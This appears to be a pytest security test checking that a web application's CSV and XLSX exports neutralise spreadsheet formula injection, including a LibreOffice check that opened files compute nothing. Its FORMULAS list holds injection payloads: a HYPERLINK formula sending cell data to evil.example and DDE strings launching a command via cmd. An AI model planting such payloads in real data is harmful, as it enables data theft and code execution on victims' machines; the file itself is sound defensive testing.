"""Formulas in everything that people write, through every list that can be taken out: no live cell."""

from __future__ import annotations

import re
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook

from app.kernel.database import execute
from app.web.export.files import FORMULA_STARTS
from app.web.shell import Portal
from tests.investments import steps
from tests.security.seats import Seats
from tests.security.test_entrances import MAY
from tests.security.walk import routes_of
from tests.support.database import DatabaseUrls, connected
from tests.support.desk import Desk
from tests.support.exports import rows_of_csv, taken_out, workbook
from tests.support.libreoffice import find_libreoffice, opened_by_libreoffice

FORMULAS = [
    '=HYPERLINK("https://evil.example?"&A1,"Open")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "＝1+1",
]
FIGURE = re.compile(r"-?\d+(\.\d+)?\Z")
LOGINS = {"operations": "ops"}
# What is asked for beside the list as it opens, where that leaves everything out.
QUERIES = {"/kyc": "by=lapsed"}


async def plant(desk: Desk, database: DatabaseUrls) -> None:
    """As though every name, note and reason were one."""
    redemption_id = await steps.request(desk)
    await steps.decide(desk, redemption_id, decision="reject", note=FORMULAS[0])
    await steps.request(desk, login="member2")
    async with connected(database.admin) as admin:
        await admin.execute("SET session_replication_role = replica")
        for table, column in (
            ("client", "name"),
            ("ledger_account", "name"),
            ("ledger_entry", "operation"),
            ("audit_record", "actor_name"),
            ("job", "last_error"),
            ("product", "name"),
        ):
            await admin.execute(
                f"UPDATE {table} SET {column} = ($2::text[])[1 + (hashtext(id::text) & 3)]"
                " || ' ' || id"
                " WHERE tenant_id = $1",
                desk.tenant_id,
                FORMULAS,
            )
        await admin.execute(
            "UPDATE account SET name = $2 WHERE id IN"
            " (SELECT account_id FROM membership WHERE tenant_id = $1)",
            desk.tenant_id,
            FORMULAS[5],
        )
        await admin.execute(
            "UPDATE client SET kyc_expires_at = app_now() WHERE tenant_id = $1", desk.tenant_id
        )
    async with desk.working("ops"):
        await execute("UPDATE job SET state = 'dead', finished_at = now()")


def is_live(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def is_negative(cell: Any) -> bool:
    return cell.data_type == "n" and cell.value is not None and Decimal(str(cell.value)) < 0


@dataclass(frozen=True)
class Taken:
    """A list as somebody who may takes it out, in both kinds."""

    of: str
    csv: bytes
    xlsx: bytes


@pytest.fixture
async def lists(portal: Portal, seats: Seats, desk: Desk, database: DatabaseUrls) -> list[Taken]:
    """Every list that can be taken out, with what `plant` has written in it."""
    await plant(desk, database)
    account = await seats.of(desk, "ops")
    vault = (await account.get("/api/v1/ledger/accounts?limit=100")).json()["data"][0]["id"]
    taken = []
    for path in sorted(path for _, path in routes_of(portal) if path.endswith("/export")):
        of = path.removesuffix("/export")
        may = {"operations"} if "{" in path else MAY[f"POST {path}"]
        role = next(role for role in ("operations", "compliance", *may) if role in may)
        seat = await seats.of(desk, LOGINS.get(role, role))
        files = {}
        for kind in ("csv", "xlsx"):
            where = of.replace("{account_id}", vault)
            answer = await taken_out(seat, where, QUERIES.get(of, ""), kind=kind)
            assert answer.status_code == 200, (path, answer.text)
            files[kind] = answer.content
        taken.append(Taken(of, **files))
    assert len(taken) > 10
    return taken


async def test_no_export_has_a_live_cell_and_figures_stay_figures(lists: list[Taken]) -> None:
    negative, planted = {"csv": 0, "xlsx": 0}, set()
    for taken in lists:
        path = taken.of
        cells = [cell for row in rows_of_csv(taken.csv) for cell in row.values()]
        live = [cell for cell in cells if is_live(cell) and not FIGURE.match(cell)]
        assert live == [], path
        negative["csv"] += sum(FIGURE.match(cell) is not None and cell[0] == "-" for cell in cells)
        excel = workbook(taken.xlsx)
        excel_cells = [cell for sheet in excel for row in sheet.iter_rows() for cell in row]
        assert {cell.data_type for cell in excel_cells} <= {"s", "inlineStr", "n", "d"}, path
        assert [cell.value for cell in excel_cells if cell.hyperlink] == [], path
        # A figure of more digits than Excel has stands there as text, exactly.
        texts = [cell for cell in excel_cells if cell.data_type in ("s", "inlineStr")]
        texts = [cell for cell in texts if not FIGURE.match(cell.value)]
        live = [cell.value for cell in texts if is_live(cell.value) and not cell.quotePrefix]
        assert live == [], path
        negative["xlsx"] += sum(is_negative(cell) for cell in excel_cells)
        typed = [cell for cell in excel.worksheets[1]["A":"Z"] for cell in cell if cell.quotePrefix]
        assert any(cell.startswith("'") for cell in cells) == bool(typed), path
        planted |= {path} if typed else set()
    assert len(lists) - len(planted) <= 1, "of balances nothing was typed"
    assert all(negative.values()), negative


@pytest.mark.skipif(
    find_libreoffice() is None, reason="no LibreOffice: apt-get install libreoffice-calc-nogui"
)
@pytest.mark.timeout(240)
async def test_libreoffice_computes_nothing_and_reads_figures_as_figures(
    lists: list[Taken], tmp_path: Path
) -> None:
    for number, taken in enumerate(lists):
        (tmp_path / f"{number}.csv").write_bytes(taken.csv)
        (tmp_path / f"{number}.xlsx").write_bytes(taken.xlsx)
    # Of both kinds a file in which cells are live: else nothing here could fail.
    (tmp_path / "live.csv").write_text('"name"\n=1+1\n')
    live = Workbook()
    live.active["A1"] = "=1+1"
    live.save(tmp_path / "live.xlsx")

    for kind in ("csv", "xlsx"):
        opened = {file.stem: file for file in opened_by_libreoffice(tmp_path.glob(f"*.{kind}"))}
        assert opened.pop("live").formulas == ["of:=1+1"]
        assert len(opened) == len(lists)
        for file in opened.values():
            assert file.formulas == [], (kind, file.stem)
            assert file.links == [], (kind, file.stem)
        assert min(figure for file in opened.values() for figure in file.figures) < 0, kind
